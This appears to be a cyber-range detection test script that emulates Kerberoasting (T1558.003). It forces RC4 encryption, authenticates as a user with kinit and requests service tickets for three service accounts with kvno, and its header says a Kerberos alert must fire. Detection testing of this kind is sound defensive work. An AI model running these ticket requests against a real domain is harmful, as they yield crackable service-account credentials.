# SPDX-License-Identifier: Apache-2.0
# what: service tickets with RC4 for three service accounts
# technique: T1558.003
# from: ws1
# to: dc1
# account: alice
# outcome: success
# must: alert krb
. "$RANGE_HERE/item.sh"
export KRB5_CONFIG="$RANGE/hosts/ws1/krb5-rc4.conf"
echo "$USER_PASSWORD" | kinit alice
kvno "MSSQLSvc/fs1.$DOMAIN_DNS:1433" "HTTP/lin1.$DOMAIN_DNS" "backup/fs1.$DOMAIN_DNS"
